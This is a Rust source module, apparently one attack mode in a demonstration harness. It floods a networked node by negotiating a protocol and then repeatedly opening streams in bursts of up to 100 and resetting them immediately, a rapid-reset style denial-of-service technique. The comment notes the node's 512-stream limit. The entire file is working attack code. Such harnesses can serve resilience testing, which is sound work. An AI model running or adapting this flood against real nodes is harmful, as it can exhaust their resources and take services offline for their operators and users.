//! Streams that are opened, a burst at a time, and reset at once.

use std::io;

use super::{Attacker, pace::Pace, wire::Wire};
use crate::demo::{multistream, work::PROTOCOL};

pub const CONNECTIONS: u32 = 8;

/// Streams that are open together, at most; the node lets 512 be.
const BURST: u32 = 100;

pub async fn run(attacker: Attacker, mut wire: Wire, mut pace: Pace) -> io::Result<()> {
    wire.listen();
    let mut request = multistream::proposal(PROTOCOL.as_ref());
    request.push(b'{');
    loop {
        let mut due = pace.due().await;
        while due > 0 {
            let burst = due.min(BURST);
            let streams: Vec<u32> = (0..burst).map(|_| wire.open(&request)).collect();
            for stream in streams {
                wire.reset(stream);
            }
            wire.send().await?;
            attacker.tried(burst.into());
            due -= burst;
        }
    }
}
